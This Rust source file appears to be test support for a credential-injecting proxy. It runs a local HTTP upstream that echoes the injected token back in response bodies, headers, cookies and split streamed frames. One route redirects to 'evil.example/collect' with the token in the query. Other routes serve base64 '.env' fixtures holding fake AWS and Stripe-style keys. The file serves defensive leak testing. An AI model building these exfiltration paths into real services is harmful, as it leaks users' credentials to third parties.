//! An in-process HTTP/1.1 upstream (hyper) that records what it received and can echo the
//! credential back in every way a careless or hostile API might: in the body, in headers, split
//! across flushes, in a redirect. Plain or TLS with a test CA.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{combinators::BoxBody, BodyExt, Full, StreamBody};
use hyper::body::Frame;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;

/// What the upstream saw of one request.
#[derive(Debug, Clone)]
pub struct Seen {
    pub method: String,
    pub uri: String,
    pub headers: Vec<(String, String)>,
}

impl Seen {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A running upstream.
pub struct Upstream {
    pub addr: SocketAddr,
    pub seen: Arc<Mutex<Vec<Seen>>>,
    rt: Option<tokio::runtime::Runtime>,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        if let Some(rt) = self.rt.take() {
            rt.shutdown_background();
        }
    }
}

/// TLS material for a TLS upstream.
pub struct TestCa {
    pub ca_pem: String,
    pub server_config: Arc<tokio_rustls::rustls::ServerConfig>,
}

impl TestCa {
    /// A CA and a leaf for 127.0.0.1 signed by it.
    pub fn new() -> Self {
        use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair};
        let ca_key = KeyPair::generate().unwrap();
        let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let ca_cert = ca_params.self_signed(&ca_key).unwrap();
        let issuer = rcgen::Issuer::new(ca_params, ca_key);
        let leaf_key = KeyPair::generate().unwrap();
        let leaf_params = CertificateParams::new(vec!["127.0.0.1".to_string()]).unwrap();
        let leaf = leaf_params.signed_by(&leaf_key, &issuer).unwrap();
        let provider = Arc::new(tokio_rustls::rustls::crypto::ring::default_provider());
        let server_config = tokio_rustls::rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![leaf.der().clone(), ca_cert.der().clone()],
                tokio_rustls::rustls::pki_types::PrivateKeyDer::Pkcs8(
                    leaf_key.serialize_der().into(),
                ),
            )
            .unwrap();
        Self {
            ca_pem: ca_cert.pem(),
            server_config: Arc::new(server_config),
        }
    }
}

type Body = BoxBody<Bytes, Infallible>;

fn full(s: impl Into<Bytes>) -> Body {
    Full::new(s.into()).boxed()
}

async fn handle(
    req: Request<hyper::body::Incoming>,
    seen: Arc<Mutex<Vec<Seen>>>,
) -> Result<Response<Body>, Infallible> {
    let headers: Vec<(String, String)> = req
        .headers()
        .iter()
        .map(|(k, v)| {
            (
                k.to_string(),
                String::from_utf8_lossy(v.as_bytes()).into_owned(),
            )
        })
        .collect();
    let auth = req
        .headers()
        .get("authorization")
        .or_else(|| req.headers().get("x-api-key"))
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .unwrap_or_default();
    let token = auth.rsplit(' ').next().unwrap_or_default().to_string();
    let path = req.uri().path().to_string();
    let query = req.uri().query().unwrap_or_default().to_string();
    seen.lock().unwrap().push(Seen {
        method: req.method().to_string(),
        uri: req.uri().to_string(),
        headers: headers.clone(),
    });
    let resp = match path.as_str() {
        "/echo" => {
            let map: serde_json::Map<String, serde_json::Value> = headers
                .iter()
                .map(|(k, v)| (k.clone(), serde_json::Value::String(v.clone())))
                .collect();
            let body = serde_json::json!({"headers": map, "query": query, "token_b64": base64_std(&token)});
            Response::builder()
                .header("content-type", "application/json")
                .body(full(serde_json::to_vec(&body).unwrap()))
                .unwrap()
        }
        "/hdr" => Response::builder()
            .header("x-echo-auth", auth.clone())
            .header("set-cookie", format!("session={token}; HttpOnly"))
            .header("x-plain", "nothing to see")
            .body(full("ok"))
            .unwrap(),
        "/split" => {
            // The token split across two flushes, with a pause between them.
            let (a, b) = token.split_at(token.len() / 2);
            let parts = vec![format!("start {a}"), format!("{b} end")];
            let stream = futures_stream(parts);
            Response::builder().body(BodyExt::boxed(stream)).unwrap()
        }
        "/redirect" => Response::builder()
            .status(302)
            .header("location", format!("http://evil.example/collect?t={token}"))
            .body(full(""))
            .unwrap(),
        "/hang" => {
            tokio::time::sleep(Duration::from_secs(30)).await;
            Response::new(full("late"))
        }
        "/contents" => {
            // A repository file as GitHub's contents API returns it: base64, 60 characters a
            // line (`\n` escapes once serialized), holding keys credgate never injected.
            let file =
                "# deploy settings\nAWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\nREGION=eu-west-1\n";
            let encoded = base64_std(file);
            let lines: Vec<String> = encoded
                .as_bytes()
                .chunks(60)
                .map(|c| String::from_utf8_lossy(c).into_owned())
                .collect();
            let readme = base64_std("# Project\n\nRun the tests before you push.\n");
            let body = serde_json::json!([
                {"name": ".env", "encoding": "base64", "content": lines.join("\n") + "\n"},
                {"name": "README.md", "encoding": "base64", "content": readme},
            ]);
            Response::builder()
                .header("content-type", "application/json")
                .body(full(serde_json::to_vec(&body).unwrap()))
                .unwrap()
        }
        "/message" => {
            // A raw message as mail APIs return one (`GET …/messages/{id}/$value`): a `.env`
            // attachment in base64, wrapped at 76 characters with CRLF, so that the Stripe key
            // in it is cut by a line break.
            let file = "# production settings\r\nSTRIPE_KEY=sk_live_51HabcDEFxyzQq0123456789abcdefABCDEF0123\r\nREGION=eu-west-1\r\n";
            let encoded = base64_std(file);
            let lines: Vec<&str> = encoded
                .as_bytes()
                .chunks(76)
                .map(|c| std::str::from_utf8(c).unwrap())
                .collect();
            let body = [
                "From: ops@example.com",
                "Subject: settings",
                "MIME-Version: 1.0",
                "Content-Type: multipart/mixed; boundary=\"b1_5f3a\"",
                "",
                "--b1_5f3a",
                "Content-Type: text/plain",
                "",
                "Attached.",
                "--b1_5f3a",
                "Content-Type: text/plain; name=\".env\"",
                "Content-Disposition: attachment; filename=\".env\"",
                "Content-Transfer-Encoding: base64",
                "",
                &lines.join("\r\n"),
                "--b1_5f3a--",
                "",
            ]
            .join("\r\n");
            Response::builder()
                .header("content-type", "message/rfc822")
                .body(full(body))
                .unwrap()
        }
        "/deflate" => Response::builder()
            .header("content-encoding", "deflate")
            .body(full(vec![0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]))
            .unwrap(),
        _ => Response::new(full("upstream-ok")),
    };
    Ok(resp)
}

fn base64_std(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn futures_stream(
    parts: Vec<String>,
) -> impl hyper::body::Body<Data = Bytes, Error = Infallible> + Send + Sync + 'static {
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, Infallible>>(4);
    tokio::spawn(async move {
        for p in parts {
            if tx.send(Ok(Frame::data(Bytes::from(p)))).await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });
    StreamBody::new(ReceiverStream(rx))
}

struct ReceiverStream(tokio::sync::mpsc::Receiver<Result<Frame<Bytes>, Infallible>>);

impl futures_core::Stream for ReceiverStream {
    type Item = Result<Frame<Bytes>, Infallible>;
    fn poll_next(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Self::Item>> {
        self.0.poll_recv(cx)
    }
}

impl Upstream {
    /// Starts a plain HTTP upstream.
    pub fn start() -> Self {
        Self::start_with(None)
    }

    /// Starts a TLS upstream with `ca`'s leaf.
    pub fn start_tls(ca: &TestCa) -> Self {
        Self::start_with(Some(tokio_rustls::TlsAcceptor::from(
            ca.server_config.clone(),
        )))
    }

    fn start_with(tls: Option<tokio_rustls::TlsAcceptor>) -> Self {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        let listener = rt
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .unwrap();
        let addr = listener.local_addr().unwrap();
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let seen2 = seen.clone();
        rt.spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                let seen = seen2.clone();
                let tls = tls.clone();
                tokio::spawn(async move {
                    let svc = service_fn(move |req| handle(req, seen.clone()));
                    let builder = hyper::server::conn::http1::Builder::new();
                    match tls {
                        Some(acc) => {
                            if let Ok(s) = acc.accept(stream).await {
                                let _ = builder.serve_connection(TokioIo::new(s), svc).await;
                            }
                        }
                        None => {
                            let _ = builder.serve_connection(TokioIo::new(stream), svc).await;
                        }
                    }
                });
            }
        });
        Self {
            addr,
            seen,
            rt: Some(rt),
        }
    }

    pub fn port(&self) -> u16 {
        self.addr.port()
    }

    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}
